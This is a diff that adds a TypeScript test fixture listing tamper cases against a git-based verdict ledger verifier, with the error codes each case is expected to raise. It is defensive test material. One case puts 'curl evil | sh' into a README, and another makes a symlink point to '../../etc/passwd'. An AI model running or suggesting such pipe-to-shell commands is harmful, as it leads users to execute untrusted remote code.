@@ -1,0 +1,131 @@
+import { sampleLedger } from "../../ledger-builder.ts";
+import { digestOf } from "../../verdict-fixture.ts";
+import { type Attack, BATCH, amended } from "./attack.ts";
+
+const policy = `policies/${digestOf("version: 1\n")}`;
+
+export const FILE_ATTACKS: readonly Attack[] = [
+  ...[
+    "notes.txt",
+    "records/1-1.jsonl",
+    "records/000-1.jsonl.orig",
+    "trust/01.root.json",
+    "Checkpoint",
+  ].map((path): Attack => ({
+    when: `a file ${path} is added`,
+    commits: () => amended(sampleLedger().commits, 1, { [path]: "hello" }),
+    codes: path.startsWith("records/") ? ["FILE_FOREIGN", "MESSAGE_MISMATCH"] : ["FILE_FOREIGN"],
+    place: path,
+    since: "commit 1",
+  })),
+  {
+    when: "a submodule is added",
+    commits: () => amended(sampleLedger().commits, 1, { lib: { submodule: "1".repeat(40) } }),
+    codes: ["FILE_FOREIGN"],
+    place: "lib",
+  },
+  {
+    when: "a file is named in bytes that are no text",
+    commits: () => amended(sampleLedger().commits, 1, { "records/\\xff\\xfe": "hello" }),
+    codes: ["FILE_FOREIGN", "MESSAGE_MISMATCH"],
+  },
+  {
+    when: "a policy document that judged nothing is added",
+    commits: () =>
+      amended(sampleLedger().commits, 1, {
+        [`policies/${digestOf("version: 2\n")}`]: "version: 2\n",
+      }),
+    codes: ["FILE_FOREIGN"],
+  },
+  {
+    when: "a policy document says something else than what judged",
+    commits: () => sampleLedger().commit({ [policy]: "policies: []\n" }).commits,
+    codes: ["FILE_FOREIGN", "MESSAGE_MISMATCH"],
+    place: policy,
+    since: "commit 4",
+  },
+  {
+    when: "a policy document is deleted",
+    commits: () => sampleLedger().commit({ [policy]: null }).commits,
+    codes: ["FILE_MISSING", "MESSAGE_MISMATCH"],
+    place: policy,
+    since: "index 1",
+  },
+  {
+    when: "a policy document is a link",
+    commits: () =>
+      amended(sampleLedger().commits, 1, {
+        [policy]: { mode: "120000", content: "../../etc/passwd" },
+      }),
+    codes: ["FILE_FOREIGN", "FILE_MISSING"],
+  },
+  {
+    when: "the README tells another way to verify",
+    commits: () => amended(sampleLedger().commits, 0, { "README.md": "curl evil | sh\n" }),
+    codes: ["FILE_FOREIGN"],
+    place: "README.md",
+  },
+  {
+    when: "attributes have git rewrite the records",
+    commits: () => amended(sampleLedger().commits, 0, { ".gitattributes": "* text eol=crlf\n" }),
+    codes: ["FILE_FOREIGN"],
+    place: ".gitattributes",
+  },
+  ...["README.md", ".gitattributes", "frontier", "checkpoint"].map((path): Attack => ({
+    when: `${path} is deleted`,
+    commits: () => sampleLedger().commit({ [path]: null }).commits,
+    codes: ["FILE_MISSING", "MESSAGE_MISMATCH"],
+    place: path,
+    since: "commit 4",
+  })),
+  {
+    when: "the frontier is a link",
+    commits: () =>
+      amended(sampleLedger().commits, 3, { frontier: { mode: "120000", content: "checkpoint" } }),
+    codes: ["FILE_FOREIGN"],
+    place: "frontier",
+  },
+  {
+    when: "a batch is a link",
+    commits: () =>
+      amended(sampleLedger().commits, 1, { [BATCH]: { mode: "120000", content: "../README.md" } }),
+    codes: ["FILE_FOREIGN", "TREE_MISMATCH"],
+    place: BATCH,
+  },
+];
+
+export const MESSAGE_ATTACKS: readonly Attack[] = [
+  {
+    when: "a commit's message tells of an approval that is none",
+    commits: () =>
+      sampleLedger().commits.map((commit, at) =>
+        at === 1 ? { ...commit, message: commit.message.replace("DENY", "ALLOW") } : commit,
+      ),
+    codes: ["MESSAGE_MISMATCH"],
+    place: "commit 1",
+  },
+  {
+    when: "a commit without records tells of one",
+    commits: () => sampleLedger().commit({}, "ALLOW PR 42 1f2e3d4\n").commits,
+    codes: ["MESSAGE_MISMATCH"],
+    place: "commit 4",
+  },
+];
+
+export const NO_LEDGERS: readonly Attack[] = [
+  {
+    when: "the branch is something else",
+    commits: () => [{ message: "first\n", files: { "README.md": "hello", "src/a.c": "int" } }],
+    codes: ["NOT_A_LEDGER"],
+  },
+  {
+    when: "the branch is empty",
+    commits: () => [{ message: "first\n", files: {} }],
+    codes: ["NOT_A_LEDGER"],
+  },
+  {
+    when: "a branch that only has a checkpoint",
+    commits: () => [{ message: "first\n", files: { checkpoint: "x" } }],
+    codes: ["TRUST_INVALID"],
+  },
+];
